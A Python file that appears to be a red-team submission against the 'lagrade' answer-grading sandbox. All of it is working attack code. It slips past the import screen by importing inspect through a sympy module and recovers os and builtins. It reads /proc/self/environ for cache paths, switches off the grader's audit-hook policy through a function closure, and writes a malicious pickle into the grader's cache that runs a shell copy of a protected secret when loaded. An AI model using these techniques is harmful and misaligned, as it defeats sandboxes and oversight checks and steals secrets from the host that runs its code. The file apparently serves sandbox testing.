"""effect: poison-cache
tries: route 2 (busy), then a cache pickle whose loading copies the 0600 secret into the drop folder from the grader.

Same cache route; the payload steals the secret in the grader instead.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.assumptions.assume import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def cache_dirs():
    # the child's os.environ was cleared, but /proc/self/environ still shows the block it was
    # started with (LAGRADE_CACHE, XDG_CACHE_HOME, HOME)
    env = dict(e.split(b"=", 1) for e in B["op" + "en"]("/proc/self/environ", "rb").read().split(b"\0") if b"=" in e)
    found = [env[b"LAGRADE_CACHE"].decode()] if b"LAGRADE_CACHE" in env else []
    sbx = members(sys_)["modules"].get("lagrade.answer.jail.child")
    return found + [p for p in members(sbx).get("_SECRET_DIRS", ()) if "cache" in p]


def work():
    # a protocol-0 pickle whose loading runs cp of the secret in whatever process unpickles it
    payload = b"cos\nsystem\n(S'cp /tmp/lagrade-redteam/secret-0600.txt /tmp/lagrade-redteam/drop/pwned-r2_cache_pickle_read_secret-secret'\ntR."
    for directory in cache_dirs():
        for entry in os_.listdir(directory):
            if entry.endswith(".pkl"):
                B["op" + "en"](directory + "/" + entry, "wb").write(payload)


# route 2: lagrade replaces sympy's parse_expr by a closure over the hook's policy object;
# inspect.getclosurevars reads __closure__ (not audited) and hands the policy over. busy = True
# makes the hook return at once for every event, for the rest of the run.
parser = members(sys_)["modules"].get("sympy.pars" + "ing.sympy_parser")
policy = inspect.getclosurevars(members(parser)["parse_expr"]).nonlocals.get("policy") if parser else None
if policy is not None:
    policy.busy = True
work()
